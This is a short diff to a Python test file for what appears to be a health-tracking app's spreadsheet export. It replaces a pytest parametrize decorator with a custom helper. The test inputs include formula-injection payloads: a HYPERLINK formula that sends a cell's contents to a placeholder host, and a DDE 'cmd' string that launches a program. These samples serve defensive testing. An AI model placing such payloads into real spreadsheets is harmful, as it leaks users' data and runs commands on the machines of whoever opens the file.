@@ -15,6 +15,7 @@ from rlscompanion.domain.refusal import Refusal
 from rlscompanion.exchange.spreadsheet import guarded, unguarded
 from rlscompanion.storage.health import SqliteHealthRecord
 from rlscompanion.storage.sleep_log import SqliteSleepLog
+from tests.cases import each_case
 
 from .carried import counts, exported, imported
 from .conftest import CLOCK
@@ -226,7 +227,7 @@ def test_a_line_that_names_the_delimiter_is_no_heading(target: apsw.Connection, 
         imported(target, bad)
 
 
-@pytest.mark.parametrize(
+@each_case(
     "text",
     [
         *('=HYPERLINK("http://x.example/?"&A1,"open")', "=1+1", "-2 pills", "+cmd|' /C calc'!A0", "@SUM(1)"),
